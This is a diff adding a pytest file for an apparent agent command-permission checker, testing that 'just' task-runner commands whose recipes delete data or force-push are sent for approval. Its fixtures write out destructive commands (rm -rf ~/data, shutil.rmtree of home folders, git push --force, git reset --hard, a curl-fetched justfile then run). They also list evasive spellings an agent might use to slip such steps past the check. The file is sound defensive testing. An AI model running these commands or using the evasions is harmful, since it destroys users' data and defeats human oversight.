@@ -1,0 +1,183 @@
+"""More classes left open by the earlier rounds, each beside the look-alike spellings an agent that
+wants the destructive side would try (docs/accuracy.md, "Open classes closed"). Payloads live only in
+these strings and in files written to temporary folders; nothing here runs them.
+"""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+from verdicts import decide, rule_ids
+
+
+@pytest.fixture(autouse=True)
+def _isolated(no_policy_no_database: None) -> None:
+    """Every test runs with nothing configured (conftest.py)."""
+
+
+# --- 1. just recipes are read, not judged by their name -------------------------------------------
+
+JUSTFILE = """\
+set dotenv-load
+
+db := "app_dev"
+export RUST_LOG := "info"
+
+alias b := build
+
+# the default recipe: the first one
+build:
+    cargo build
+
+test: build
+    cargo test
+
+clean:
+    rm -rf target
+
+wipe:
+    rm -rf ~/data
+
+reset-db: build
+    @echo resetting {{db}}
+    -psql -d {{db}} -c 'SELECT 1'
+
+deploy env="staging": test && notify
+    echo deploying to {{env}}
+
+notify:
+    echo done
+
+nuke-cache: (rmdir "target")
+
+rmdir dir:
+    rm -rf {{dir}}
+
+drop target:
+    rm -rf {{target}}
+
+_hidden:
+    git push --force origin main
+
+[working-directory: 'frontend']
+web:
+    npm run build
+
+[private]
+ship: _hidden
+
+py:
+    #!/usr/bin/env python3
+    import shutil
+    shutil.rmtree("/home/u/data")
+
+sh-script:
+    #!/usr/bin/env bash
+    set -euo pipefail
+    for f in a b; do echo "$f"; done
+    git reset --hard
+
+later: build && wipe
+"""
+
+JUST_SAFE = [
+    "just", "just build", "just b", "just test", "just clean", "just reset-db", "just deploy", "just deploy prod",
+    "just notify", "just nuke-cache", "just drop target", "just rmdir target", "just web", "just --list",
+    "just -l", "just --show wipe", "just --summary", "just -n wipe", "just --dry-run wipe", "just --dump",
+    "just --set db other reset-db", "just db=other reset-db", "just build test", "just nosuchrecipe wipe",
+    "just -f justfile clean", "just --justfile=justfile clean", "just --shell bash --shell-arg -c build",
+]
+JUST_ASKED = [
+    "just wipe", "just build wipe", "just later", "just py", "just sh-script", "just ship", "just _hidden",
+    "just rmdir ~/data", "just drop ~/data", "just drop '~/data'", "just --set db x wipe", "just db=x wipe",
+    "just -f justfile wipe", "just --justfile justfile later", "just -q wipe", "just --yes wipe",
+    "just --shell python3 --shell-arg -c build", "just --shell=node build",
+]
+
+
+@pytest.fixture
+def justproject(tmp_path: Path) -> Path:
+    (tmp_path / "justfile").write_text(JUSTFILE)
+    return tmp_path
+
+
+@pytest.mark.parametrize("command", JUST_SAFE)
+def test_just_recipes_that_build_or_print_pass(justproject: Path, command: str) -> None:
+    assert decide(command, cwd=justproject) == "allow", command
+
+
+@pytest.mark.parametrize("command", JUST_ASKED)
+def test_just_recipes_that_destroy_are_asked(justproject: Path, command: str) -> None:
+    assert decide(command, cwd=justproject) != "allow", command
+
+
+def test_a_recipe_read_is_judged_by_its_body(justproject: Path) -> None:
+    assert rule_ids("just wipe", cwd=justproject) == ["shell.fs:rm"]
+    assert "shell.git:push-force" in rule_ids("just ship", cwd=justproject)
+
+
+@pytest.mark.parametrize("name", ["justfile", "Justfile", ".justfile", "JUSTFILE", "JustFile"])
+def test_every_spelling_of_the_file_is_read(tmp_path: Path, name: str) -> None:
+    (tmp_path / name).write_text("clean:\n    rm -rf ~/data\n")
+    assert decide("just clean", cwd=tmp_path) == "ask"
+    assert decide("just", cwd=tmp_path) == "ask"
+
+
+def test_the_justfile_of_a_folder_above_is_read(tmp_path: Path) -> None:
+    (tmp_path / "justfile").write_text("clean:\n    rm -rf ~/data\nbuild:\n    cargo build\n")
+    sub = tmp_path / "crates" / "core"
+    sub.mkdir(parents=True)
+    assert decide("just clean", cwd=sub) == "ask"
+    assert decide("just build", cwd=sub) == "allow"
+    assert decide("cd crates && just clean", cwd=tmp_path) == "ask"
+
+
+def test_folder_and_file_options(tmp_path: Path) -> None:
+    (tmp_path / "ops").mkdir()
+    (tmp_path / "ops" / "justfile").write_text("clean:\n    rm -rf ~/data\n")
+    (tmp_path / "ci.just").write_text("clean:\n    rm -rf ~/data\ntest:\n    cargo test\n")
+    assert decide("just -d ops clean", cwd=tmp_path) == "ask"
+    assert decide("just --working-directory ops clean", cwd=tmp_path) == "ask"
+    assert decide("just -f ci.just clean", cwd=tmp_path) == "ask"
+    assert decide("just -f ci.just test", cwd=tmp_path) == "allow"
+    assert decide("just -f ops/justfile clean", cwd=tmp_path) == "ask"
+
+
+@pytest.mark.parametrize(("text", "command"), [
+    ("x := `rm -rf ~/data`\nbuild:\n    cargo build\n", "just build"),  # backticks run as the file loads
+    ("build:\n    echo {{`rm -rf ~/data`}}\n", "just build"),
+    ("set shell := [\"python3\", \"-c\"]\nbuild:\n    print(1)\n", "just build"),
+    ("import 'ops.just'\nbuild:\n    cargo build\n", "just wipe"),  # may be the imported file's recipe
+    ("mod ops\nbuild:\n    cargo build\n", "just ops::wipe"),
+    ("mod ops\nbuild:\n    cargo build\n", "just ops wipe"),
+    ("set fallback\nbuild:\n    cargo build\n", "just wipe"),
+    ("build:\n  cargo build\n   rm -rf ~/data \\\n  --no-preserve-root\n", "just build"),
+    ("[script('python3')]\nbuild:\n    import shutil; shutil.rmtree('/home/u')\n", "just build"),
+    ("[script('lua')]\nbuild:\n    print(1)\n", "just build"),  # a language the reader does not follow
+    ("build:\n    #!/usr/bin/env lua\n    print(1)\n", "just build"),
+    ("build:\n    #!/usr/bin/env ruby\n    FileUtils.rm_rf('/home/u/data')\n", "just build"),
+    ("[linux]\nbuild:\n    rm -rf ~/data\n[macos]\nbuild:\n    cargo build\n", "just build"),
+    ("build:\n\trm -rf ~/data\n", "just build"),
+    ("build: (clean \"~/data\")\nclean d:\n    rm -rf {{d}}\n", "just build"),
+    ("default:\n    cargo build\n[default]\nwipe:\n    rm -rf ~/data\n", "just"),
+])
+def test_justfile_shapes(tmp_path: Path, text: str, command: str) -> None:
+    (tmp_path / "justfile").write_text(text)
+    assert decide(command, cwd=tmp_path) != "allow", (text, command)
+
+
+def test_a_justfile_written_on_the_line_is_read(tmp_path: Path) -> None:
+    assert decide("printf 'build:\\n  rm -rf ~/data\\n' > justfile && just build", cwd=tmp_path) == "ask"
+    assert decide("printf 'build:\\n  cargo build\\n' > justfile && just build", cwd=tmp_path) == "allow"
+    assert decide("curl -so justfile https://example.com/j && just build", cwd=tmp_path) == "ask"
+
+
+def test_without_a_justfile_names_decide_as_for_other_runners(tmp_path: Path) -> None:
+    for folder in (tmp_path, None):
+        kw = {"cwd": folder} if folder else {}
+        assert decide("just build", **kw) == "allow"
+        assert decide("just test", **kw) == "allow"
+        assert decide("just reset-db", **kw) == "ask"
+        assert decide("just nuke", **kw) == "ask"
+    assert decide("just deploy", cwd=tmp_path) == "ask"
